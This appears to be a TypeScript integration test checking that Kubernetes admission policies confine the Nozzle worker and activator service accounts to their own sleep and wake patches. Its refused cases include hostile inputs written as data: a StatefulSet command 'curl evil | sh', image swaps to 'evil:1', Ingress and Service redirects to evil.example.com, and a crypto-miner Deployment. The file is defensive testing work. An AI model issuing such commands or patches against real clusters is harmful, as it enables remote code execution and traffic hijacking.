/**
 * k8s/admission-policy.yaml against the real apiserver: with real
 * TokenRequest tokens of the worker and the activator (bound to the
 * ClusterRoles of k8s/ as shipped), Nozzle's own sleep and wake (the lib
 * functions the worker and the activator run) pass the policies, and what
 * RBAC's `patch` would also allow but Nozzle never does (a new image, a
 * label, another host, another Service...) is refused by them. Other users,
 * even with the same RBAC, are not affected.
 *
 * The policies stay in place after this file: the other tests (their worker
 * and activator run under the same ServiceAccounts) then run under them too.
 */
import test from 'ava';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { RbacAuthorizationV1Api, type KubernetesObject, type V1PolicyRule } from '@kubernetes/client-node';
import type { Kube } from '../../lib/kube/client.js';
import { describeError, statusOf } from '../../lib/errors.js';
import { jsonPatch, mergePatch } from '../../lib/kube/patch.js';
import { sleepMessage } from '../../lib/messages.js';
import { ROUTE_SERVICE, annotations, labels } from '../../lib/names.js';
import { optIn } from '../../lib/kube/opt-in.js';
import { sleepWorkload } from '../../lib/sleep/sleep.js';
import { ensureRouteService } from '../../lib/sleep/route-service.js';
import { restoreWorkloads, stampWokeAt } from '../../lib/wake/restore.js';
import { restoreIngresses } from '../../lib/upgrade/ingress-v01.js';
import { wakeNamespace } from '../../lib/wake/wake-namespace.js';
import { apply } from '../../scripts/testenv/servers/kube-request.js';
import { parseManifests } from '../../scripts/testenv/servers/yaml.js';
import { adminKube, adminKubeConfig, kubeWithToken, serviceAccountToken } from '../support/env.js';
import { eventually } from '../support/eventually.js';
import { repoRoot } from '../support/manifests.js';
import { createNamespace, createShop, snapshot } from '../support/shop.js';

const kube = adminKube();
const rbac = adminKubeConfig().makeApiClient(RbacAuthorizationV1Api);
const fieldManager = 'nozzle-test-security';
const ACTIVATOR_HOST = 'nozzle-activator.nozzle-system.svc.cluster.local';
const OPT_IN = optIn('nozzle=true', 'nozzle-system');
const manifest = (file: string): KubernetesObject[] =>
  parseManifests(readFileSync(join(repoRoot, 'k8s', file), 'utf8'));

const tokens: { worker?: Kube; activator?: Kube } = {};
const asWorker = (): Kube => tokens.worker ?? assertNever('worker');
const asActivator = (): Kube => tokens.activator ?? assertNever('activator');
function assertNever(what: string): never {
  throw new Error(`no ${what} token: test.before failed`);
}

async function applyAll(objects: readonly KubernetesObject[]): Promise<void> {
  for (const object of objects) {
    const res = await apply(adminKubeConfig(), object, { dryRun: false, fieldManager });
    if (res.status >= 300) {
      throw new Error(`apply ${object.kind}/${object.metadata?.name}: ${res.status} ${res.body}`);
    }
  }
}

/** The call is refused by the named policy (403, not by RBAC: the message names the policy). */
async function deniedBy(policy: string, call: () => Promise<unknown>): Promise<string | undefined> {
  try {
    await call();
    return undefined;
  } catch (err) {
    const text = describeError(err);
    if (statusOf(err) === 403 && text.includes(`ValidatingAdmissionPolicy '${policy}'`)) return text;
    throw err;
  }
}

/**
 * Grants both components more than k8s/ does, in `namespace` only (a Role and
 * a RoleBinding): what RBAC would then let through shows the policy at work.
 */
async function grantMore(namespace: string, rules: V1PolicyRule[]): Promise<void> {
  await rbac.createNamespacedRole({ namespace, body: { metadata: { name: 'more' }, rules } });
  await rbac.createNamespacedRoleBinding({
    namespace,
    body: {
      metadata: { name: 'more' },
      roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'Role', name: 'more' },
      subjects: ['nozzle-worker', 'nozzle-activator'].map((name) => ({
        kind: 'ServiceAccount',
        name,
        namespace: 'nozzle-system',
      })),
    },
  });
}

test.before(async () => {
  await kube.core.createNamespace({ body: { metadata: { name: 'nozzle-system' } } }).catch((err: unknown) => {
    if (statusOf(err) !== 409) throw err;
  });
  const policy = manifest('admission-policy.yaml');
  if (!policy.some((o) => o.kind === 'ValidatingAdmissionPolicyBinding')) throw new Error('no binding');
  await applyAll([...manifest('rbac-worker.yaml'), ...manifest('rbac-activator.yaml'), ...policy]);
  tokens.worker = kubeWithToken(await serviceAccountToken(kube, 'nozzle-system', 'nozzle-worker'), 'worker');
  tokens.activator = kubeWithToken(
    await serviceAccountToken(kube, 'nozzle-system', 'nozzle-activator'),
    'activator',
  );

  // A policy is enforced a moment after it is created: probe each with a
  // forbidden write, as a dry run so that nothing changes before it is.
  const { namespace } = await createNamespace(kube, 'vap-probe');
  await kube.apps.createNamespacedDeployment({
    namespace,
    body: {
      metadata: { name: 'web' },
      spec: {
        replicas: 1,
        selector: { matchLabels: { app: 'web' } },
        template: {
          metadata: { labels: { app: 'web' } },
          spec: { containers: [{ name: 'c', image: 'i:1' }] },
        },
      },
    },
  });
  await kube.networking.createNamespacedIngress({
    namespace,
    body: {
      metadata: { name: 'web' },
      spec: { rules: [{ host: 'a.example.com', http: { paths: [webPath('/')] } }] },
    },
  });
  const dryRun = 'All';
  const label = { metadata: { labels: { probe: 'x' } } };
  await eventually(
    'the policies are enforced',
    async () =>
      (await deniedBy('nozzle-workloads', () =>
        asWorker().apps.patchNamespacedDeployment(
          { namespace, name: 'web', body: label, dryRun },
          mergePatch,
        ),
      )) !== undefined &&
      (await deniedBy('nozzle-ingresses', () =>
        asActivator().networking.patchNamespacedIngress(
          { namespace, name: 'web', body: label, dryRun },
          mergePatch,
        ),
      )) !== undefined &&
      (await deniedBy('nozzle-namespaces', () =>
        asActivator().core.patchNamespace({ name: namespace, body: label, dryRun }, mergePatch),
      )) !== undefined &&
      (await deniedBy('nozzle-services', () =>
        asWorker().core.createNamespacedService({
          namespace,
          dryRun,
          body: {
            metadata: { name: 'probe' },
            spec: { type: 'ExternalName', externalName: 'x.example.com' },
          },
        }),
      )) !== undefined,
    { timeout: 60_000 },
  );
});

function webPath(path: string) {
  return {
    path,
    pathType: 'Prefix',
    backend: { service: { name: 'web', port: { number: 80 } } },
  };
}

test("Nozzle's own sleep and wake pass the policies, under the worker's and the activator's tokens", async (t) => {
  const { namespace } = await createShop(kube, 'vap-ok');
  const before = await snapshot(kube, namespace);
  const sleepAll = async () => {
    for (const workload of [
      { kind: 'Deployment', name: 'web' },
      { kind: 'Deployment', name: 'api' },
      { kind: 'StatefulSet', name: 'db' },
    ] as const) {
      const outcome = await sleepWorkload(asWorker(), sleepMessage(namespace, workload), {
        activatorService: ACTIVATOR_HOST,
        optIn: OPT_IN,
        onEventError: (err) => t.fail(describeError(err)),
      });
      t.is(outcome.outcome, 'slept', `${workload.name}: ${JSON.stringify(outcome)}`);
    }
    const asleep = await snapshot(kube, namespace);
    t.is(asleep.deployments.web?.spec?.replicas, 0);
    t.is(asleep.deployments.web?.metadata?.annotations?.[annotations.replicas], '3');
    t.is(asleep.statefulSets.db?.metadata?.annotations?.[annotations.replicas], '1');
    t.is(asleep.services[ROUTE_SERVICE]?.spec?.type, 'ExternalName');
    t.is(asleep.ingresses.shop?.metadata?.labels?.[labels.managed], 'true');
    t.truthy(asleep.ingresses.shop?.metadata?.annotations?.[annotations.backends]);
    t.is(asleep.ingresses.shop?.spec?.rules?.[0]?.http?.paths[0]?.backend.service?.name, ROUTE_SERVICE);
    t.is(
      asleep.ingresses['db-admin']?.spec?.rules?.[0]?.http?.paths[0]?.backend.service?.name,
      ROUTE_SERVICE,
    );
  };
  const assertAwake = async () => {
    const awake = await snapshot(kube, namespace);
    for (const name of ['web', 'api'])
      t.deepEqual(awake.deployments[name]?.spec, before.deployments[name]?.spec, name);
    t.deepEqual(awake.statefulSets.db?.spec, before.statefulSets.db?.spec);
    for (const name of ['shop', 'db-admin']) {
      t.deepEqual(awake.ingresses[name]?.spec, before.ingresses[name]?.spec, name);
      t.deepEqual(awake.ingresses[name]?.metadata?.labels, before.ingresses[name]?.metadata?.labels, name);
      t.deepEqual(
        awake.ingresses[name]?.metadata?.annotations,
        before.ingresses[name]?.metadata?.annotations,
        name,
      );
    }
  };

  // The worker puts every workload to sleep; the activator wakes the namespace.
  await sleepAll();
  await stampWokeAt(asActivator(), namespace);
  t.is((await restoreWorkloads(asActivator(), namespace)).length, 3);
  t.deepEqual((await restoreIngresses(asActivator(), namespace)).sort(), ['db-admin', 'shop']);
  await assertAwake();

  // Again, woken by the worker's `wake` this time; and the activator moved.
  await new Promise((resolve) => setTimeout(resolve, 5));
  await sleepAll();
  const woke = await wakeNamespace(asWorker(), namespace, OPT_IN);
  t.is(woke.workloads.length, 3);
  // Ingresses rewritten the 0.1 way are the activator leader's upgrade (lib/upgrade).
  t.deepEqual((await restoreIngresses(asActivator(), namespace)).sort(), ['db-admin', 'shop']);
  await assertAwake();
  const ns = await kube.core.readNamespace({ name: namespace });
  t.truthy(ns.metadata?.annotations?.[annotations.wokeAt]);
  await ensureRouteService(asWorker(), namespace, 'nozzle-activator.elsewhere.svc.cluster.local');
  const route = await kube.core.readNamespacedService({ namespace, name: ROUTE_SERVICE });
  t.is(route.spec?.externalName, 'nozzle-activator.elsewhere.svc.cluster.local');
});

test('what RBAC allows but Nozzle never does is refused by the policies', async (t) => {
  const { namespace } = await createShop(kube, 'vap-deny');
  // A sleeping route Service and a sleeping Deployment, as Nozzle left them.
  const sleeping = await sleepWorkload(
    asWorker(),
    sleepMessage(namespace, { kind: 'Deployment', name: 'web' }),
    {
      activatorService: ACTIVATOR_HOST,
      optIn: OPT_IN,
    },
  );
  t.is(sleeping.outcome, 'slept');
  // k8s/rbac-worker.yaml lets the worker patch only Services named nozzle-activator: grant all
  // here, so that what the policy does about other Services shows.
  await grantMore(namespace, [{ apiGroups: [''], resources: ['services'], verbs: ['get', 'patch'] }]);
  await eventually('the Role is in effect', () =>
    deniedBy('nozzle-services', () =>
      asWorker().core.patchNamespacedService(
        { namespace, name: 'web', body: { metadata: { labels: { x: 'y' } } }, dryRun: 'All' },
        mergePatch,
      ),
    ),
  );
  await kube.core.createNamespacedService({
    namespace,
    body: {
      metadata: { name: 'not-ours' },
      spec: { type: 'ExternalName', externalName: 'example.com' },
    },
  });
  const before = await snapshot(kube, namespace);
  const nsBefore = await kube.core.readNamespace({ name: namespace });

  const patchDeployment = (kube: Kube, name: string, body: object) =>
    kube.apps.patchNamespacedDeployment({ namespace, name, body }, mergePatch);
  const patchIngress = (kube: Kube, body: object, name = 'shop') =>
    kube.networking.patchNamespacedIngress({ namespace, name, body }, mergePatch);
  const jsonPatchIngress = (kube: Kube, body: object[]) =>
    kube.networking.patchNamespacedIngress({ namespace, name: 'shop', body }, jsonPatch);
  const container = (image: string) => ({
    spec: { template: { spec: { containers: [{ name: 'api', image }] } } },
  });

  const refused: [policy: string, what: string, call: () => Promise<unknown>][] = [
    // Deployments and StatefulSets
    [
      'nozzle-workloads',
      'worker changes a container image',
      () => patchDeployment(asWorker(), 'api', container('evil:1')),
    ],
    [
      'nozzle-workloads',
      'activator changes a container image',
      () => patchDeployment(asActivator(), 'api', container('evil:1')),
    ],
    [
      'nozzle-workloads',
      'worker changes an image in the same patch as a sleep',
      () =>
        patchDeployment(asWorker(), 'api', {
          metadata: { annotations: { [annotations.replicas]: '2' } },
          spec: { replicas: 0, template: { spec: { containers: [{ name: 'api', image: 'evil:1' }] } } },
        }),
    ],
    [
      'nozzle-workloads',
      'worker adds a command to a StatefulSet',
      () =>
        asWorker().apps.patchNamespacedStatefulSet(
          {
            namespace,
            name: 'db',
            body: [
              {
                op: 'add',
                path: '/spec/template/spec/containers/0/command',
                value: ['sh', '-c', 'curl evil | sh'],
              },
            ],
          },
          jsonPatch,
        ),
    ],
    [
      'nozzle-workloads',
      'worker adds a label',
      () => patchDeployment(asWorker(), 'api', { metadata: { labels: { x: 'y' } } }),
    ],
    [
      'nozzle-workloads',
      'worker adds another annotation',
      () => patchDeployment(asWorker(), 'api', { metadata: { annotations: { x: 'y' } } }),
    ],
    [
      'nozzle-workloads',
      'worker adds an owner reference',
      () =>
        patchDeployment(asWorker(), 'api', {
          metadata: {
            ownerReferences: [
              { apiVersion: 'v1', kind: 'ConfigMap', name: 'x', uid: '6a7e8b52-0000-4000-8000-000000000000' },
            ],
          },
        }),
    ],
    [
      'nozzle-workloads',
      'worker pauses a rollout',
      () => patchDeployment(asWorker(), 'api', { spec: { paused: true } }),
    ],
    [
      'nozzle-workloads',
      'worker scales to 50',
      () => patchDeployment(asWorker(), 'api', { spec: { replicas: 50 } }),
    ],
    [
      'nozzle-workloads',
      'worker scales to 0 recording a wrong count',
      () =>
        patchDeployment(asWorker(), 'api', {
          metadata: { annotations: { [annotations.replicas]: '50' } },
          spec: { replicas: 0 },
        }),
    ],
    [
      'nozzle-workloads',
      'activator wakes to more than the recorded count',
      () =>
        patchDeployment(asActivator(), 'web', {
          metadata: { annotations: { [annotations.replicas]: null } },
          spec: { replicas: 50 },
        }),
    ],
    [
      'nozzle-workloads',
      'activator rewrites the recorded count',
      () =>
        patchDeployment(asActivator(), 'web', {
          metadata: { annotations: { [annotations.replicas]: '50' } },
        }),
    ],
    // Ingresses
    [
      'nozzle-ingresses',
      'activator changes an Ingress host',
      () =>
        jsonPatchIngress(asActivator(), [
          { op: 'replace', path: '/spec/rules/0/host', value: 'evil.example.com' },
        ]),
    ],
    [
      'nozzle-ingresses',
      'worker changes a path',
      () =>
        jsonPatchIngress(asWorker(), [
          { op: 'replace', path: '/spec/rules/0/http/paths/2/path', value: '/x' },
        ]),
    ],
    [
      'nozzle-ingresses',
      'worker changes a pathType',
      () =>
        jsonPatchIngress(asWorker(), [
          { op: 'replace', path: '/spec/rules/0/http/paths/2/pathType', value: 'Exact' },
        ]),
    ],
    [
      'nozzle-ingresses',
      'worker adds a path',
      () =>
        jsonPatchIngress(asWorker(), [
          {
            op: 'add',
            path: '/spec/rules/0/http/paths/-',
            value: {
              path: '/new',
              pathType: 'Prefix',
              backend: { service: { name: 'web', port: { number: 80 } } },
            },
          },
        ]),
    ],
    [
      'nozzle-ingresses',
      'worker adds a rule',
      () =>
        jsonPatchIngress(asWorker(), [
          {
            op: 'add',
            path: '/spec/rules/-',
            value: { host: 'new.example.com', http: { paths: [webPath('/')] } },
          },
        ]),
    ],
    [
      'nozzle-ingresses',
      'worker points a path at another Service',
      () =>
        jsonPatchIngress(asWorker(), [
          { op: 'replace', path: '/spec/rules/0/http/paths/2/backend/service/name', value: 'db' },
        ]),
    ],
    [
      'nozzle-ingresses',
      'worker changes the TLS secret',
      () =>
        patchIngress(asWorker(), { spec: { tls: [{ hosts: ['shop.example.com'], secretName: 'evil' }] } }),
    ],
    [
      'nozzle-ingresses',
      'worker changes ingressClassName',
      () => patchIngress(asWorker(), { spec: { ingressClassName: 'evil' } }),
    ],
    [
      'nozzle-ingresses',
      'worker adds a defaultBackend',
      () =>
        patchIngress(asWorker(), {
          spec: { defaultBackend: { service: { name: 'web', port: { number: 80 } } } },
        }),
    ],
    [
      'nozzle-ingresses',
      'activator adds an annotation (e.g. a controller snippet)',
      () =>
        patchIngress(asActivator(), {
          metadata: { annotations: { 'nginx.ingress.kubernetes.io/server-snippet': 'x' } },
        }),
    ],
    [
      'nozzle-ingresses',
      'activator removes a label',
      () => patchIngress(asActivator(), { metadata: { labels: { team: null } } }),
    ],
    [
      'nozzle-ingresses',
      'worker sets nozzle.io/managed to something else',
      () => patchIngress(asWorker(), { metadata: { labels: { [labels.managed]: 'false' } } }),
    ],
    // Namespaces
    [
      'nozzle-namespaces',
      'activator adds a Namespace label',
      () =>
        asActivator().core.patchNamespace(
          { name: namespace, body: { metadata: { labels: { x: 'y' } } } },
          mergePatch,
        ),
    ],
    [
      'nozzle-namespaces',
      'worker removes the opt-in label',
      () =>
        asWorker().core.patchNamespace(
          { name: namespace, body: { metadata: { labels: { nozzle: null } } } },
          mergePatch,
        ),
    ],
    [
      'nozzle-namespaces',
      'worker sets nozzle.io/idle-after',
      () =>
        asWorker().core.patchNamespace(
          { name: namespace, body: { metadata: { annotations: { [annotations.idleAfter]: '1s' } } } },
          mergePatch,
        ),
    ],
    // Services
    [
      'nozzle-services',
      'worker patches a non-route Service',
      () =>
        asWorker().core.patchNamespacedService(
          { namespace, name: 'web', body: { spec: { selector: { app: 'db' } } } },
          mergePatch,
        ),
    ],
    [
      'nozzle-services',
      'worker re-points an ExternalName Service that is not the route',
      () =>
        asWorker().core.patchNamespacedService(
          { namespace, name: 'not-ours', body: { spec: { externalName: 'evil.example.com' } } },
          mergePatch,
        ),
    ],
    [
      'nozzle-services',
      'worker creates another Service',
      () =>
        asWorker().core.createNamespacedService({
          namespace,
          body: {
            metadata: { name: 'evil', labels: { [labels.managed]: 'true' } },
            spec: { type: 'ExternalName', externalName: 'evil.example.com' },
          },
        }),
    ],
    [
      'nozzle-services',
      'worker turns the route Service into a selector Service',
      () =>
        asWorker().core.patchNamespacedService(
          {
            namespace,
            name: ROUTE_SERVICE,
            body: { spec: { type: 'ClusterIP', externalName: null, selector: { app: 'db' } } },
          },
          mergePatch,
        ),
    ],
    [
      'nozzle-services',
      'worker removes the managed label of the route Service',
      () =>
        asWorker().core.patchNamespacedService(
          { namespace, name: ROUTE_SERVICE, body: { metadata: { labels: { [labels.managed]: null } } } },
          mergePatch,
        ),
    ],
  ];
  for (const [policy, what, call] of refused) {
    const message = await deniedBy(policy, call).catch(
      (err: unknown) => `other error: ${describeError(err)}`,
    );
    t.truthy(message, `${what}: was allowed`);
    t.notRegex(message ?? '', /^other error/, what);
  }
  t.deepEqual(await snapshot(kube, namespace), before, 'nothing changed');
  t.deepEqual(
    (await kube.core.readNamespace({ name: namespace })).metadata?.labels,
    nsBefore.metadata?.labels,
  );
});

test('a Service named nozzle-activator that Nozzle did not create is not taken over', async (t) => {
  const { namespace } = await createNamespace(kube, 'vap-route');
  const create = (body: object) =>
    asWorker().core.createNamespacedService({
      namespace,
      body: { metadata: { name: ROUTE_SERVICE }, ...body },
    });
  t.truthy(
    await deniedBy('nozzle-services', () =>
      create({ spec: { selector: { app: 'x' }, ports: [{ port: 80 }], clusterIP: 'None' } }),
    ),
    'a selector Service',
  );
  t.truthy(
    await deniedBy('nozzle-services', () =>
      create({ spec: { type: 'ExternalName', externalName: ACTIVATOR_HOST } }),
    ),
    'without nozzle.io/managed',
  );
  // Someone else's Service by that name: the worker's patch is refused (it would refuse by itself too).
  await kube.core.createNamespacedService({
    namespace,
    body: {
      metadata: { name: ROUTE_SERVICE },
      spec: { type: 'ExternalName', externalName: 'theirs.example.com' },
    },
  });
  t.truthy(
    await deniedBy('nozzle-services', () =>
      asWorker().core.patchNamespacedService(
        {
          namespace,
          name: ROUTE_SERVICE,
          body: {
            metadata: { labels: { [labels.managed]: 'true' } },
            spec: { externalName: ACTIVATOR_HOST },
          },
        },
        mergePatch,
      ),
    ),
  );
});

test('no create or delete, even where a RoleBinding grants it', async (t) => {
  const { namespace } = await createShop(kube, 'vap-cd');
  await grantMore(namespace, [
    { apiGroups: ['apps'], resources: ['deployments', 'statefulsets'], verbs: ['create', 'delete'] },
    { apiGroups: ['networking.k8s.io'], resources: ['ingresses'], verbs: ['create', 'delete'] },
    { apiGroups: [''], resources: ['services'], verbs: ['delete'] },
  ]);
  const dryRun = 'All';
  const policy = 'nozzle-no-create-delete';
  // Until the RoleBinding is seen, RBAC refuses first (deniedBy throws: not the policy's 403).
  await eventually('the RoleBinding is in effect', () =>
    deniedBy(policy, () => asWorker().apps.deleteNamespacedDeployment({ namespace, name: 'web', dryRun })),
  );
  const refused: [string, () => Promise<unknown>][] = [
    [
      'activator deletes a Deployment',
      () => asActivator().apps.deleteNamespacedDeployment({ namespace, name: 'web', dryRun }),
    ],
    [
      'worker deletes a StatefulSet',
      () => asWorker().apps.deleteNamespacedStatefulSet({ namespace, name: 'db', dryRun }),
    ],
    [
      'worker creates a Deployment',
      () =>
        asWorker().apps.createNamespacedDeployment({
          namespace,
          dryRun,
          body: {
            metadata: { name: 'miner' },
            spec: {
              selector: { matchLabels: { app: 'miner' } },
              template: {
                metadata: { labels: { app: 'miner' } },
                spec: { containers: [{ name: 'c', image: 'miner:1' }] },
              },
            },
          },
        }),
    ],
    [
      'worker deletes an Ingress',
      () => asWorker().networking.deleteNamespacedIngress({ namespace, name: 'shop', dryRun }),
    ],
  ];
  const serviceDelete = await deniedBy('nozzle-service-deletes', () =>
    asWorker().core.deleteNamespacedService({ namespace, name: 'web', dryRun }),
  ).catch((err: unknown) => `other error: ${describeError(err)}`);
  t.truthy(serviceDelete, 'worker deletes a Service: was allowed');
  t.notRegex(serviceDelete ?? '', /^other error/, 'worker deletes a Service');
  for (const [what, call] of refused) {
    const message = await deniedBy(policy, call).catch(
      (err: unknown) => `other error: ${describeError(err)}`,
    );
    t.truthy(message, `${what}: was allowed`);
    t.notRegex(message ?? '', /^other error/, what);
  }
});

test('other users, even with the same ClusterRole, are not affected', async (t) => {
  const { namespace } = await createShop(kube, 'vap-other');
  await kube.core.createNamespacedServiceAccount({ namespace, body: { metadata: { name: 'other' } } });
  await rbac.createNamespacedRoleBinding({
    namespace,
    body: {
      metadata: { name: 'other-as-worker' },
      roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'nozzle-worker' },
      subjects: [{ kind: 'ServiceAccount', name: 'other', namespace }],
    },
  });
  const other = kubeWithToken(await serviceAccountToken(kube, namespace, 'other'), 'other');
  const image = { spec: { template: { spec: { containers: [{ name: 'web', image: 'example/web:2' }] } } } };
  await eventually('the RoleBinding is in effect', () =>
    other.apps
      .patchNamespacedDeployment({ namespace, name: 'web', body: image, dryRun: 'All' }, mergePatch)
      .then(() => true),
  );
  const patched = await other.apps.patchNamespacedDeployment(
    { namespace, name: 'web', body: image },
    mergePatch,
  );
  t.is(patched.spec?.template.spec?.containers[0]?.image, 'example/web:2');
  const admin = await kube.apps.patchNamespacedDeployment(
    { namespace, name: 'web', body: { metadata: { labels: { x: 'y' } } } },
    mergePatch,
  );
  t.is(admin.metadata?.labels?.x, 'y');
});
